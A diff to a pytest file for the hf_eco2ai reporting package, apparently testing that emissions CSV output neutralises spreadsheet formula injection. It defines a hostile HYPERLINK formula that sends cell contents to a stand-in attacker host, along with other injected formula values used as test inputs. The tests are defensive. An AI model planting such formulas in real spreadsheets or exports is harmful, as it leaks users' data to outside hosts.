@@ -8,10 +8,10 @@ from pathlib import Path
 from typing import Any, Dict, List
 
 import pytest
+from report_data import make_tracking_data
 
 from hf_eco2ai import generate_carbon_report
 from hf_eco2ai.reporting.emissions_csv import append_emissions_row, emissions_row
-from report_data import make_tracking_data
 
 TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
 HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
@@ -66,12 +66,12 @@ def test_ordinary_names_are_written_unchanged() -> None:
 
 
 def test_emissions_csv_neutralises_names_even_behind_leading_spaces(tmp_path: Path) -> None:
-    report = make_tracking_data(step_count=4, steps_per_epoch=2, project_name="  =HYPERLINK(\"http://x\")")
+    report = make_tracking_data(step_count=4, steps_per_epoch=2, project_name='  =HYPERLINK("http://x")')
     report["steps_marked"], report["samples_total"] = 4, None
     report["run"]["experiment_id"] = "@SUM(1)"
     path = append_emissions_row(tmp_path, emissions_row(report, "finished", None))
     cells = _cells(path.read_text())
-    assert "'  =HYPERLINK(\"http://x\")" in cells and "'@SUM(1)" in cells
+    assert '\'  =HYPERLINK("http://x")' in cells and "'@SUM(1)" in cells
     for cell in cells:
         if not _is_number(cell):
             assert not cell.lstrip(" ").startswith(tuple(TRIGGERS)), cell
